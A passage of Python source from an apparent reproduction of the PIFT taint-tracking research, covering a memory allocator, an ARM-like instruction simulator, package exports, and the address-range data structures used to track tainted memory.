        self.write_bytes(address, (value & 0xFFFF).to_bytes(2, "little"))

    def write_u32(self, address: int, value: int) -> None:
        self.write_bytes(address, (value & 0xFFFFFFFF).to_bytes(4, "little"))

    def write_u64(self, address: int, value: int) -> None:
        self.write_bytes(
            address, (value & 0xFFFFFFFFFFFFFFFF).to_bytes(8, "little")
        )


@dataclass(frozen=True)
class Region:
    """A named, allocated address region."""

    name: str
    range: AddressRange

    @property
    def base(self) -> int:
        return self.range.start

    @property
    def size(self) -> int:
        return self.range.size


class BumpAllocator:
    """Never-freeing allocator over a fixed address window.

    Matching real allocator behaviour is unnecessary: the taint mechanics
    only care that distinct live objects occupy distinct addresses, and a
    bump allocator guarantees it.
    """

    def __init__(self, base: int, limit: int, name: str = "heap") -> None:
        if limit <= base:
            raise ValueError("allocator window is empty")
        self.name = name
        self._base = base
        self._limit = limit
        self._next = base

    def alloc(self, size: int, align: int = 4) -> int:
        if size < 1:
            raise ValueError(f"allocation size must be >= 1, got {size}")
        if align < 1 or align & (align - 1):
            raise ValueError(f"alignment must be a power of two, got {align}")
        address = (self._next + align - 1) & ~(align - 1)
        if address + size > self._limit:
            raise MemoryFault(
                f"{self.name} exhausted: need {size}B at {address:#x}, "
                f"limit {self._limit:#x}"
            )
        self._next = address + size
        return address

    def alloc_region(self, name: str, size: int, align: int = 4) -> Region:
        base = self.alloc(size, align)
        return Region(name, AddressRange.from_base_size(base, size))

    @property
    def bytes_used(self) -> int:
        return self._next - self._base


class AddressSpace:
    """A process address space: memory plus the standard region layout.

    Layout (loosely modelled on a 32-bit Android process):

    * ``0x4000_0000`` — interpreter/code region (addresses only; our
      simulator stores instructions out-of-band),
    * ``0x4100_0000`` — thread stacks / Dalvik frames (virtual registers),
    * ``0x6000_0000`` — managed heap (strings, arrays, instances).
    """

    CODE_BASE = 0x40000000
    CODE_LIMIT = 0x41000000
    FRAME_BASE = 0x41000000
    FRAME_LIMIT = 0x48000000
    HEAP_BASE = 0x60000000
    HEAP_LIMIT = 0x70000000

    def __init__(self) -> None:
        self.memory = Memory()
        self.code = BumpAllocator(self.CODE_BASE, self.CODE_LIMIT, "code")
        self.frames = BumpAllocator(self.FRAME_BASE, self.FRAME_LIMIT, "frames")
        self.heap = BumpAllocator(self.HEAP_BASE, self.HEAP_LIMIT, "heap")

"""The ARM-flavoured instruction set executed by the simulator.

The set mirrors what the paper's traces contain: data-processing ops
(``mov``, ``add``, ``mul``, ``ubfx``, ...), compares/branches, and the
memory instructions PIFT watches (``ldr``/``ldrh``/``ldrb``/``ldrd``/
``ldmia`` and the matching stores, per §3.2's examples).

Control flow is decided by the hosting VM (which emits the instruction
stream), so branch instructions here are *stream markers*: they occupy one
slot in the instruction sequence — which is what the tainting window is
measured in — but do not themselves transfer control.

Every instruction's :meth:`execute` returns an :class:`ExecutionRecord`
carrying what the two consumers need: the PIFT front end reads the access
kind and address range; the full-DIFT baseline additionally reads which
registers sourced and received data.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Optional, Sequence, Tuple, Union

from repro.core.events import AccessKind
from repro.core.ranges import AddressRange
from repro.isa.registers import MASK_32, register_number


class ShiftKind(enum.Enum):
    LSL = "lsl"
    LSR = "lsr"
    ASR = "asr"


@dataclass(frozen=True)
class Imm:
    """An immediate operand, e.g. ``#255``."""

    value: int

    def __str__(self) -> str:
        return f"#{self.value}"


@dataclass(frozen=True)
class Reg:
    """A register operand with an optional immediate shift, e.g. ``r3, LSL #2``."""

    register: int
    shift: Optional[ShiftKind] = None
    shift_amount: int = 0

    def __post_init__(self) -> None:
        object.__setattr__(self, "register", register_number(self.register))
        if self.shift is not None and not 0 <= self.shift_amount <= 31:
            raise ValueError(f"shift amount out of range: {self.shift_amount}")

    def __str__(self) -> str:
        if self.shift is None:
            return f"r{self.register}"
        return f"r{self.register}, {self.shift.name} #{self.shift_amount}"


Operand = Union[Imm, Reg]


def _apply_shift(value: int, operand: Reg) -> int:
    if operand.shift is None or operand.shift_amount == 0:
        return value & MASK_32
    amount = operand.shift_amount
    if operand.shift is ShiftKind.LSL:
        return (value << amount) & MASK_32
    if operand.shift is ShiftKind.LSR:
        return (value & MASK_32) >> amount
    # ASR: arithmetic shift of the signed interpretation.
    signed = value - 0x100000000 if value & 0x80000000 else value
    return (signed >> amount) & MASK_32


@dataclass(frozen=True)
class Address:
    """An ARM addressing mode: base register plus immediate/register offset.

    ``pre=True`` applies the offset before the access (``[rn, #off]``);
    ``writeback`` updates the base register (the ``!`` suffix, or
    post-indexing when ``pre=False``).
    """

    base: int
    offset: Optional[Operand] = None
    pre: bool = True
    writeback: bool = False

    def __post_init__(self) -> None:
        object.__setattr__(self, "base", register_number(self.base))

    def __str__(self) -> str:
        if self.offset is None:
            return f"[r{self.base}]"
        if self.pre:
            suffix = "!" if self.writeback else ""
            return f"[r{self.base}, {self.offset}]{suffix}"
        return f"[r{self.base}], {self.offset}"


@dataclass(frozen=True)
class ExecutionRecord:
    """Everything observable about one executed instruction.

    ``data_registers`` are the registers whose *contents* crossed the
    memory boundary (load destinations / store sources) — the registers a
    full register-level tracker propagates taint through.  Address-forming
    registers are listed in ``reads`` but not in ``data_registers``.
    """

    mnemonic: str
    kind: Optional[AccessKind] = None
    address_range: Optional[AddressRange] = None
    reads: Tuple[int, ...] = ()
    writes: Tuple[int, ...] = ()
    data_registers: Tuple[int, ...] = ()
    #: Full assembly text; populated only when the CPU runs with
    #: ``render_text=True`` (it costs a str() per retired instruction).
    text: str = ""

    @property
    def is_memory(self) -> bool:
        return self.kind is not None


class Instruction:
    """Base class; subclasses implement :meth:`execute`."""

    mnemonic: str = "?"

    def execute(self, cpu) -> ExecutionRecord:  # pragma: no cover - abstract
        raise NotImplementedError

    def __repr__(self) -> str:
        return f"<{type(self).__name__} {self}>"


def _operand_value(cpu, operand: Operand) -> int:
    if isinstance(operand, Imm):
        return operand.value & MASK_32
    return _apply_shift(cpu.registers.read(operand.register), operand)


def _operand_reads(operand: Operand) -> Tuple[int, ...]:
    if isinstance(operand, Reg):
        return (operand.register,)
    return ()


def _resolve_address(cpu, address: Address, size: int) -> Tuple[int, AddressRange]:
    base_value = cpu.registers.read(address.base)
    offset = _operand_value(cpu, address.offset) if address.offset else 0
    effective = (base_value + offset) & MASK_32 if address.pre else base_value
    if address.writeback or not address.pre:
        cpu.registers.write(address.base, base_value + offset)
    return effective, AddressRange.from_base_size(effective, size)


@dataclass(frozen=True)
class Nop(Instruction):
    """A non-memory filler instruction (pipeline/dispatch work)."""

    comment: str = ""
    mnemonic: str = field(default="nop", init=False)

    def execute(self, cpu) -> ExecutionRecord:
        return ExecutionRecord(self.mnemonic)

    def __str__(self) -> str:
        return f"nop{'  @ ' + self.comment if self.comment else ''}"


@dataclass(frozen=True)
class Branch(Instruction):
    """A branch marker: occupies one instruction slot; the VM already chose
    the successor, so no control transfer happens here."""

    target: str = ""
    mnemonic: str = field(default="b", init=False)

    def execute(self, cpu) -> ExecutionRecord:
        return ExecutionRecord(self.mnemonic)

    def __str__(self) -> str:
        return f"b {self.target}".strip()


@dataclass(frozen=True)
class Mov(Instruction):
    rd: int
    src: Operand
    invert: bool = False  # mvn
    set_flags: bool = False

    def __post_init__(self) -> None:
        object.__setattr__(self, "rd", register_number(self.rd))

    @property
    def mnemonic(self) -> str:
        return "mvn" if self.invert else "mov"

    def execute(self, cpu) -> ExecutionRecord:
        value = _operand_value(cpu, self.src)
        if self.invert:
            value = ~value & MASK_32
        cpu.registers.write(self.rd, value)
        if self.set_flags:
            cpu.registers.flags.set_nz(value)
        return ExecutionRecord(
            self.mnemonic, reads=_operand_reads(self.src), writes=(self.rd,)
        )

    def __str__(self) -> str:
        return f"{self.mnemonic} r{self.rd}, {self.src}"


class AluOp(enum.Enum):
    ADD = "add"
    SUB = "sub"
    RSB = "rsb"
    ADC = "adc"
    SBC = "sbc"
    RSC = "rsc"
    AND = "and"
    ORR = "orr"
    EOR = "eor"
    BIC = "bic"


_ALU_FUNCS = {
    AluOp.ADD: lambda a, b, c: a + b,
    AluOp.SUB: lambda a, b, c: a - b,
    AluOp.RSB: lambda a, b, c: b - a,
    AluOp.ADC: lambda a, b, c: a + b + c,
    AluOp.SBC: lambda a, b, c: a - b - (1 - c),
    AluOp.RSC: lambda a, b, c: b - a - (1 - c),
    AluOp.AND: lambda a, b, c: a & b,
    AluOp.ORR: lambda a, b, c: a | b,
    AluOp.EOR: lambda a, b, c: a ^ b,
    AluOp.BIC: lambda a, b, c: a & ~b,
}

#: Ops whose S-suffixed form must also update the carry flag.
_CARRY_OPS = {
    AluOp.ADD: lambda a, b, c: a + b > MASK_32,
    AluOp.SUB: lambda a, b, c: a >= b,
    AluOp.RSB: lambda a, b, c: b >= a,
    AluOp.ADC: lambda a, b, c: a + b + c > MASK_32,
    AluOp.SBC: lambda a, b, c: a >= b + (1 - c),
    AluOp.RSC: lambda a, b, c: b >= a + (1 - c),
}


@dataclass(frozen=True)
class Alu(Instruction):
    """Two-source data-processing instruction: ``op rd, rn, <operand>``."""

    op: AluOp
    rd: int
    rn: int
    src: Operand
    set_flags: bool = False

    def __post_init__(self) -> None:
        object.__setattr__(self, "rd", register_number(self.rd))
        object.__setattr__(self, "rn", register_number(self.rn))

    @property
    def mnemonic(self) -> str:
        return self.op.value + ("s" if self.set_flags else "")

    def execute(self, cpu) -> ExecutionRecord:
        a = cpu.registers.read(self.rn)
        b = _operand_value(cpu, self.src)
        carry = int(cpu.registers.flags.carry)
        value = _ALU_FUNCS[self.op](a, b, carry) & MASK_32
        cpu.registers.write(self.rd, value)
        if self.set_flags:
            cpu.registers.flags.set_nz(value)
            carry_func = _CARRY_OPS.get(self.op)
            if carry_func is not None:
                cpu.registers.flags.carry = carry_func(a, b, carry)
        return ExecutionRecord(
            self.mnemonic,
            reads=(self.rn,) + _operand_reads(self.src),
            writes=(self.rd,),
        )

    def __str__(self) -> str:
        return f"{self.mnemonic} r{self.rd}, r{self.rn}, {self.src}"


@dataclass(frozen=True)
class Mul(Instruction):
    rd: int
    rn: int
    rm: int
    mnemonic: str = field(default="mul", init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "rd", register_number(self.rd))
        object.__setattr__(self, "rn", register_number(self.rn))
        object.__setattr__(self, "rm", register_number(self.rm))

    def execute(self, cpu) -> ExecutionRecord:
        value = (cpu.registers.read(self.rn) * cpu.registers.read(self.rm)) & MASK_32
        cpu.registers.write(self.rd, value)
        return ExecutionRecord(
            self.mnemonic, reads=(self.rn, self.rm), writes=(self.rd,)
        )

    def __str__(self) -> str:
        return f"mul r{self.rd}, r{self.rn}, r{self.rm}"


@dataclass(frozen=True)
class Ubfx(Instruction):
    """Unsigned bit-field extract (mterp uses it to crack bytecode words)."""

    rd: int
    rn: int
    lsb: int
    width: int
    mnemonic: str = field(default="ubfx", init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "rd", register_number(self.rd))
        object.__setattr__(self, "rn", register_number(self.rn))
        if not 0 <= self.lsb <= 31 or not 1 <= self.width <= 32 - self.lsb:
            raise ValueError(f"invalid bit-field lsb={self.lsb} width={self.width}")

    def execute(self, cpu) -> ExecutionRecord:
        value = (cpu.registers.read(self.rn) >> self.lsb) & ((1 << self.width) - 1)
        cpu.registers.write(self.rd, value)
        return ExecutionRecord(self.mnemonic, reads=(self.rn,), writes=(self.rd,))

    def __str__(self) -> str:
        return f"ubfx r{self.rd}, r{self.rn}, #{self.lsb}, #{self.width}"


@dataclass(frozen=True)
class Cmp(Instruction):
    """Compare (subtract and set flags; ``cmps`` in the paper's trace)."""

    rn: int
    src: Operand
    mnemonic: str = field(default="cmp", init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "rn", register_number(self.rn))

    def execute(self, cpu) -> ExecutionRecord:
        a = cpu.registers.read(self.rn)
        b = _operand_value(cpu, self.src)
        result = (a - b) & MASK_32
        cpu.registers.flags.set_nz(result)
        cpu.registers.flags.carry = a >= b
        return ExecutionRecord(self.mnemonic, reads=(self.rn,) + _operand_reads(self.src))

    def __str__(self) -> str:
        return f"cmp r{self.rn}, {self.src}"


_WIDTH_MNEMONICS = {1: "b", 2: "h", 4: ""}


@dataclass(frozen=True)
class Load(Instruction):
    """``ldr``/``ldrh``/``ldrb``/``ldrsh``/``ldrsb``/``ldrd`` family."""

    rd: int
    address: Address
    width: int = 4
    signed: bool = False
    rd2: Optional[int] = None  # second destination for ldrd

    def __post_init__(self) -> None:
        object.__setattr__(self, "rd", register_number(self.rd))
        if self.rd2 is not None:
            object.__setattr__(self, "rd2", register_number(self.rd2))
            if self.width != 4:
                raise ValueError("ldrd is a pair of 32-bit words")
        if self.width not in (1, 2, 4):
            raise ValueError(f"unsupported load width {self.width}")
        if self.signed and self.width == 4:
            raise ValueError("ldrs* applies to sub-word widths only")

    @property
    def mnemonic(self) -> str:
        if self.rd2 is not None:
            return "ldrd"
        sign = "s" if self.signed else ""
        return f"ldr{sign}{_WIDTH_MNEMONICS[self.width]}"

    def execute(self, cpu) -> ExecutionRecord:
        total = self.width if self.rd2 is None else 8
        effective, access_range = _resolve_address(cpu, self.address, total)
        value = int.from_bytes(
            cpu.address_space.memory.read_bytes(effective, self.width), "little"
        )
        if self.signed and value & (1 << (8 * self.width - 1)):
            value -= 1 << (8 * self.width)
        cpu.registers.write(self.rd, value)
        writes = [self.rd]
        data_registers = [self.rd]
        if self.rd2 is not None:
            high = cpu.address_space.memory.read_u32(effective + 4)
            cpu.registers.write(self.rd2, high)
            writes.append(self.rd2)
            data_registers.append(self.rd2)
        reads = (self.address.base,) + (
            _operand_reads(self.address.offset) if self.address.offset else ()
        )
        if self.address.writeback or not self.address.pre:
            writes.append(self.address.base)
        return ExecutionRecord(
            self.mnemonic,
            kind=AccessKind.LOAD,
            address_range=access_range,
            reads=reads,
            writes=tuple(writes),
            data_registers=tuple(data_registers),
        )

    def __str__(self) -> str:
        if self.rd2 is not None:
            return f"ldrd r{self.rd}, r{self.rd2}, {self.address}"
        return f"{self.mnemonic} r{self.rd}, {self.address}"


@dataclass(frozen=True)
class Store(Instruction):
    """``str``/``strh``/``strb``/``strd`` family."""

    rd: int
    address: Address
    width: int = 4
    rd2: Optional[int] = None  # second source for strd

    def __post_init__(self) -> None:
        object.__setattr__(self, "rd", register_number(self.rd))
        if self.rd2 is not None:
            object.__setattr__(self, "rd2", register_number(self.rd2))
            if self.width != 4:
                raise ValueError("strd is a pair of 32-bit words")
        if self.width not in (1, 2, 4):
            raise ValueError(f"unsupported store width {self.width}")

    @property
    def mnemonic(self) -> str:
        if self.rd2 is not None:
            return "strd"
        return f"str{_WIDTH_MNEMONICS[self.width]}"

    def execute(self, cpu) -> ExecutionRecord:
        total = self.width if self.rd2 is None else 8
        effective, access_range = _resolve_address(cpu, self.address, total)
        value = cpu.registers.read(self.rd)
        cpu.address_space.memory.write_bytes(
            effective, (value & ((1 << (8 * self.width)) - 1)).to_bytes(self.width, "little")
        )
        data_registers = [self.rd]
        if self.rd2 is not None:
            cpu.address_space.memory.write_u32(
                effective + 4, cpu.registers.read(self.rd2)
            )
            data_registers.append(self.rd2)
        reads = (
            tuple(data_registers)
            + (self.address.base,)
            + (_operand_reads(self.address.offset) if self.address.offset else ())
        )
        writes = (
            (self.address.base,)
            if (self.address.writeback or not self.address.pre)
            else ()
        )
        return ExecutionRecord(
            self.mnemonic,
            kind=AccessKind.STORE,
            address_range=access_range,
            reads=reads,
            writes=writes,
            data_registers=tuple(data_registers),
        )

    def __str__(self) -> str:
        if self.rd2 is not None:
            return f"strd r{self.rd}, r{self.rd2}, {self.address}"
        return f"{self.mnemonic} r{self.rd}, {self.address}"


@dataclass(frozen=True)
class LoadMultiple(Instruction):
    """``ldmia rn(!), {registers}`` — one event spanning all loaded words."""

    base: int
    registers: Tuple[int, ...]
    writeback: bool = True
    mnemonic: str = field(default="ldmia", init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "base", register_number(self.base))
        object.__setattr__(
            self, "registers", tuple(register_number(r) for r in self.registers)
        )
        if not self.registers:
            raise ValueError("register list must not be empty")

    def execute(self, cpu) -> ExecutionRecord:
        base_value = cpu.registers.read(self.base)
        size = 4 * len(self.registers)
        for i, register in enumerate(self.registers):
            cpu.registers.write(
                register, cpu.address_space.memory.read_u32(base_value + 4 * i)
            )
        writes = list(self.registers)
        if self.writeback:
            cpu.registers.write(self.base, base_value + size)
            writes.append(self.base)
        return ExecutionRecord(
            self.mnemonic,
            kind=AccessKind.LOAD,
            address_range=AddressRange.from_base_size(base_value, size),
            reads=(self.base,),
            writes=tuple(writes),
            data_registers=self.registers,
        )

    def __str__(self) -> str:
        regs = ", ".join(f"r{r}" for r in self.registers)
        bang = "!" if self.writeback else ""
        return f"ldmia r{self.base}{bang}, {{{regs}}}"


@dataclass(frozen=True)
class StoreMultiple(Instruction):
    """``stmdb rn(!), {registers}`` — decrement-before store multiple."""

    base: int
    registers: Tuple[int, ...]
    writeback: bool = True
    mnemonic: str = field(default="stmdb", init=False)

    def __post_init__(self) -> None:
        object.__setattr__(self, "base", register_number(self.base))
        object.__setattr__(
            self, "registers", tuple(register_number(r) for r in self.registers)
        )
        if not self.registers:
            raise ValueError("register list must not be empty")

    def execute(self, cpu) -> ExecutionRecord:
        size = 4 * len(self.registers)
        start = (cpu.registers.read(self.base) - size) & MASK_32
        for i, register in enumerate(self.registers):
            cpu.address_space.memory.write_u32(
                start + 4 * i, cpu.registers.read(register)
            )
        writes: Tuple[int, ...] = ()
        if self.writeback:
            cpu.registers.write(self.base, start)
            writes = (self.base,)
        return ExecutionRecord(
            self.mnemonic,
            kind=AccessKind.STORE,
            address_range=AddressRange.from_base_size(start, size),
            reads=self.registers + (self.base,),
            writes=writes,
            data_registers=self.registers,
        )

    def __str__(self) -> str:
        regs = ", ".join(f"r{r}" for r in self.registers)
        bang = "!" if self.writeback else ""
        return f"stmdb r{self.base}{bang}, {{{regs}}}"


@dataclass(frozen=True)
class RegisterPatch(Instruction):
    """A result-bearing instruction whose value the VM computed in Python.

    Stands in for one native instruction the simplified ALU cannot evaluate
    bit-exactly (``umull`` high halves, register-specified shifts, the final
    quotient write of a division helper, condition-select moves).  It writes
    ``value`` into ``rd`` while reporting the *real* instruction's register
    dataflow (``reads`` → ``rd``), so the full-DIFT baseline's taint
    propagation stays faithful even though the arithmetic ran in Python.
    It is a plain non-memory instruction to PIFT — one slot in the stream.
    """

    rd: int
    value: int
    reads: Tuple[int, ...] = ()
    mnemonic: str = "mov"

    def __post_init__(self) -> None:
        object.__setattr__(self, "rd", register_number(self.rd))
        object.__setattr__(
            self, "reads", tuple(register_number(r) for r in self.reads)
        )

    def execute(self, cpu) -> ExecutionRecord:
        cpu.registers.write(self.rd, self.value)
        return ExecutionRecord(self.mnemonic, reads=self.reads, writes=(self.rd,))

    def __str__(self) -> str:
        return f"{self.mnemonic} r{self.rd}, #{self.value & MASK_32:#x}"

"""The paper's primary contribution: the predictive taint tracker and the
hardware/software stack around it (paper §3).

Layering, top to bottom (Figure 3):

* :class:`~repro.core.manager.PIFTManager` — framework-level source/sink
  instrumentation,
* :class:`~repro.core.native.PIFTNative` — runtime-level value-to-address
  translation,
* :class:`~repro.core.module.PIFTKernelModule` — kernel driver speaking the
  hardware command ports,
* :class:`~repro.core.hw.PIFTHardwareModule` /
  :class:`~repro.core.hw.PIFTFrontEnd` — the on-chip engine and CPU hooks,
* :class:`~repro.core.tracker.PIFTTracker` — Algorithm 1 itself, over
  :class:`~repro.core.ranges.RangeSet` or a bounded
  :class:`~repro.core.taint_storage.BoundedRangeCache`.
"""

from repro.core.buffered import (
    BufferedPIFT,
    BufferStats,
    ImmediateVerdict,
    LateDetection,
)
from repro.core.colours import ColourRangeSet, ColourSpace
from repro.core.config import (
    PAPER_DEFAULT,
    PAPER_MALWARE_MINIMUM,
    PAPER_PERFECT,
    BufferConfig,
    OverflowPolicy,
    PIFTConfig,
)
from repro.core.events import (
    AccessKind,
    ColumnArrays,
    EventColumns,
    EventTrace,
    MemoryAccess,
    load,
    store,
)
from repro.core.faults import (
    FaultInjector,
    FaultPlan,
    FaultRates,
    FaultStats,
    parse_fault_spec,
)
from repro.core.hw import (
    Command,
    CommandRequest,
    CommandResponse,
    PIFTFrontEnd,
    PIFTHardwareModule,
)
from repro.core.manager import PIFTManager, SinkReport, SourceRecord
from repro.core.module import LeakEvent, PIFTKernelModule
from repro.core.native import AddressTranslationError, PIFTNative
from repro.core.provenance import (
    ColourProvenance,
    LabeledLeak,
    ProvenanceTracker,
)
from repro.core.ranges import AddressRange, RangeSet
from repro.core.taint_storage import (
    ENTRY_BYTES_WITH_PID,
    ENTRY_BYTES_WITHOUT_PID,
    BoundedRangeCache,
    EvictionPolicy,
    StorageStats,
    entry_capacity,
    paper_default_storage,
)
from repro.core.tracker import (
    ColourTracker,
    PIFTTracker,
    TimelinePoint,
    TrackerStats,
    track_trace,
)

__all__ = [
    "AccessKind",
    "AddressRange",
    "AddressTranslationError",
    "BoundedRangeCache",
    "BufferConfig",
    "BufferStats",
    "BufferedPIFT",
    "ColourProvenance",
    "ColourRangeSet",
    "ColourSpace",
    "ColourTracker",
    "ColumnArrays",
    "Command",
    "CommandRequest",
    "CommandResponse",
    "ENTRY_BYTES_WITHOUT_PID",
    "ENTRY_BYTES_WITH_PID",
    "EventColumns",
    "EventTrace",
    "EvictionPolicy",
    "FaultInjector",
    "FaultPlan",
    "FaultRates",
    "FaultStats",
    "ImmediateVerdict",
    "LabeledLeak",
    "LateDetection",
    "LeakEvent",
    "MemoryAccess",
    "OverflowPolicy",
    "PAPER_DEFAULT",
    "PAPER_MALWARE_MINIMUM",
    "PAPER_PERFECT",
    "PIFTConfig",
    "PIFTFrontEnd",
    "PIFTHardwareModule",
    "PIFTKernelModule",
    "PIFTManager",
    "PIFTNative",
    "PIFTTracker",
    "ProvenanceTracker",
    "RangeSet",
    "SinkReport",
    "SourceRecord",
    "StorageStats",
    "TimelinePoint",
    "TrackerStats",
    "entry_capacity",
    "load",
    "paper_default_storage",
    "parse_fault_spec",
    "store",
    "track_trace",
]

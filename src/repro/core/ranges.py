"""Address ranges and range sets — the data PIFT's taint state is made of.

PIFT (Algorithm 1 in the paper) maintains ``R = {r_1, ..., r_n}``, a set of
tainted address ranges ``r_i = [s_i, e_i]`` with *inclusive* start and end
addresses.  Three operations dominate:

* overlap query — performed on every memory load (``max(s_i, s_L) <=
  min(e_i, e_L)`` for any ``r_i``),
* taint — add the target range of a store inside a tainting window,
* untaint — remove the target range of a store outside every window.

``RangeSet`` keeps ranges sorted, coalesced, and non-overlapping, so the
number of *distinct ranges* it reports matches what the paper's Figure 17/19
measure, and the total tainted size matches Figures 14/15/18.
"""

from __future__ import annotations

import bisect
from dataclasses import dataclass
from typing import Iterable, Iterator, List, Optional, Tuple


@dataclass(frozen=True, order=True)
class AddressRange:
    """An inclusive address range ``[start, end]`` as in the paper's §3.2.

    The paper defines ranges by their start and end *byte* addresses, both
    inclusive; a single byte at address ``a`` is ``AddressRange(a, a)``.
    """

    start: int
    end: int

    def __post_init__(self) -> None:
        if self.start < 0:
            raise ValueError(f"negative start address: {self.start:#x}")
        if self.end < self.start:
            raise ValueError(
                f"end {self.end:#x} precedes start {self.start:#x}"
            )

    @classmethod
    def from_base_size(cls, base: int, size: int) -> "AddressRange":
        """Build a range from a base address and a byte count (size >= 1)."""
        if size < 1:
            raise ValueError(f"size must be >= 1, got {size}")
        return cls(base, base + size - 1)

    @property
    def size(self) -> int:
        """Number of bytes covered (inclusive bounds)."""
        return self.end - self.start + 1

    def overlaps(self, other: "AddressRange") -> bool:
        """The paper's overlap test: ``max(s_i, s_L) <= min(e_i, e_L)``."""
        return max(self.start, other.start) <= min(self.end, other.end)

    def contains(self, other: "AddressRange") -> bool:
        """True when ``other`` lies entirely inside this range."""
        return self.start <= other.start and other.end <= self.end

    def contains_address(self, address: int) -> bool:
        return self.start <= address <= self.end

    def adjacent_or_overlapping(self, other: "AddressRange") -> bool:
        """True when the union of the two ranges is a single range."""
        return max(self.start, other.start) <= min(self.end, other.end) + 1

    def intersection(self, other: "AddressRange") -> Optional["AddressRange"]:
        start = max(self.start, other.start)
        end = min(self.end, other.end)
        if start > end:
            return None
        return AddressRange(start, end)

    def union(self, other: "AddressRange") -> "AddressRange":
        if not self.adjacent_or_overlapping(other):
            raise ValueError(f"{self} and {other} are disjoint; union is not a range")
        return AddressRange(min(self.start, other.start), max(self.end, other.end))

    def subtract(self, other: "AddressRange") -> Tuple["AddressRange", ...]:
        """Remove ``other`` from this range; zero, one, or two pieces remain."""
        if not self.overlaps(other):
            return (self,)
        pieces: List[AddressRange] = []
        if self.start < other.start:
            pieces.append(AddressRange(self.start, other.start - 1))
        if other.end < self.end:
            pieces.append(AddressRange(other.end + 1, self.end))
        return tuple(pieces)

    def aligned_expand(self, granularity_bits: int) -> "AddressRange":
        """Expand to cover whole ``2**granularity_bits``-byte blocks.

        Models the paper's §3.3 fixed-granularity alternative: tainting a
        block as a whole if any part of it is tainted (storing the
        ``32 - r`` most significant address bits).
        """
        if granularity_bits < 0:
            raise ValueError("granularity_bits must be >= 0")
        mask = (1 << granularity_bits) - 1
        return AddressRange(self.start & ~mask, self.end | mask)

    def __str__(self) -> str:
        return f"[{self.start:#x}, {self.end:#x}]"


class RangeSet:
    """A sorted, coalesced set of disjoint :class:`AddressRange` objects.

    This is the *reference* (software) taint state used by the tracker.  The
    hardware-constrained variants in :mod:`repro.core.taint_storage` mirror
    its interface but add capacity limits and eviction.

    Internally two parallel lists of starts and ends are kept sorted, so
    overlap queries are ``O(log n)`` and mutations are ``O(n)`` in the worst
    case — fine for the range counts PIFT exhibits (well under a few
    thousand, per the paper's Figure 17).
    """

    def __init__(self, ranges: Iterable[AddressRange] = ()) -> None:
        self._starts: List[int] = []
        self._ends: List[int] = []
        #: Mutation counter; lets derived views (the numpy mirror used by
        #: :mod:`repro.core.vectorized`) detect staleness without hashing.
        self._version: int = 0
        self._np_mirror: Optional[tuple] = None
        #: Incrementally maintained byte total, so the per-mutation
        #: high-water bookkeeping in the tracker hot loop is O(1) per
        #: range set instead of O(ranges).
        self._total: int = 0
        for item in ranges:
            self.add(item)

    # -- queries ---------------------------------------------------------

    def __len__(self) -> int:
        return len(self._starts)

    def __bool__(self) -> bool:
        return bool(self._starts)

    def __iter__(self) -> Iterator[AddressRange]:
        for start, end in zip(self._starts, self._ends):
            yield AddressRange(start, end)

    def __contains__(self, item: AddressRange) -> bool:
        """True when ``item`` is fully covered by a single stored range."""
        idx = self._candidate_index(item)
        if idx is None:
            return False
        return self._starts[idx] <= item.start and item.end <= self._ends[idx]

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, RangeSet):
            return NotImplemented
        return self._starts == other._starts and self._ends == other._ends

    def __repr__(self) -> str:
        inner = ", ".join(str(r) for r in self)
        return f"RangeSet({inner})"

    @property
    def total_size(self) -> int:
        """Total number of tainted bytes (the paper's Figures 14/15/18)."""
        return self._total

    @property
    def range_count(self) -> int:
        """Number of distinct ranges (the paper's Figures 17/19)."""
        return len(self._starts)

    def overlaps(self, query: AddressRange) -> bool:
        """The per-load taint lookup: does any stored range overlap ``query``?"""
        return self._candidate_index(query) is not None

    def overlapping(self, query: AddressRange) -> List[AddressRange]:
        """All stored ranges that overlap ``query`` (for sink diagnostics)."""
        result: List[AddressRange] = []
        idx = bisect.bisect_right(self._starts, query.end) - 1
        while idx >= 0 and self._ends[idx] >= query.start:
            result.append(AddressRange(self._starts[idx], self._ends[idx]))
            idx -= 1
        result.reverse()
        return result

    def covers_address(self, address: int) -> bool:
        return self.overlaps(AddressRange(address, address))

    def as_pairs(self) -> List[Tuple[int, int]]:
        """The stored ranges as plain ``(start, end)`` tuples, in address
        order — the coverage view shared with the coloured state
        (:meth:`repro.core.colours.ColourRangeSet.items` drops its masks
        to this same shape), which is what the colour-parity oracle
        compares."""
        return list(zip(self._starts, self._ends))

    def as_arrays(self):
        """Sorted ``(starts, ends)`` int64 numpy mirror of the stored ranges.

        Built lazily and cached against :attr:`_version`, so replay code
        that performs thousands of vectorised overlap tests between taint
        mutations pays the array construction once per mutation, not once
        per query (:mod:`repro.core.vectorized`).
        """
        mirror = self._np_mirror
        if mirror is None or mirror[0] != self._version:
            import numpy

            mirror = (
                self._version,
                numpy.asarray(self._starts, dtype=numpy.int64),
                numpy.asarray(self._ends, dtype=numpy.int64),
            )
            self._np_mirror = mirror
        return mirror[1], mirror[2]

    def _candidate_index(self, query: AddressRange) -> Optional[int]:
        """Index of one stored range overlapping ``query``, or ``None``.

        Ranges are disjoint and sorted, so the only candidate with
        ``start <= query.end`` that can still overlap is the rightmost one.
        """
        idx = bisect.bisect_right(self._starts, query.end) - 1
        if idx < 0:
            return None
        if self._ends[idx] >= query.start:
            return idx
        return None

    # -- mutations -------------------------------------------------------

    def add(self, item: AddressRange) -> None:
        """Taint ``item``, merging with overlapping/adjacent stored ranges."""
        start, end = item.start, item.end
        # Find the window of stored ranges that the new range touches
        # (overlap or adjacency), then replace them with one merged range.
        lo = bisect.bisect_left(self._ends, start - 1 if start else 0)
        hi = bisect.bisect_right(self._starts, end + 1)
        absorbed = 0
        if lo < hi:
            start = min(start, self._starts[lo])
            end = max(end, self._ends[hi - 1])
            for i in range(lo, hi):
                absorbed += self._ends[i] - self._starts[i] + 1
        self._starts[lo:hi] = [start]
        self._ends[lo:hi] = [end]
        self._total += end - start + 1 - absorbed
        self._version += 1

    def add_many(self, items: List[Tuple[int, int]]) -> Optional[Tuple[int, int]]:
        """Taint every ``(start, end)`` pair in one sorted-merge pass.

        Content-equivalent to calling :meth:`add` once per pair, in any
        order, but the merge is a single sorted-array operation over the
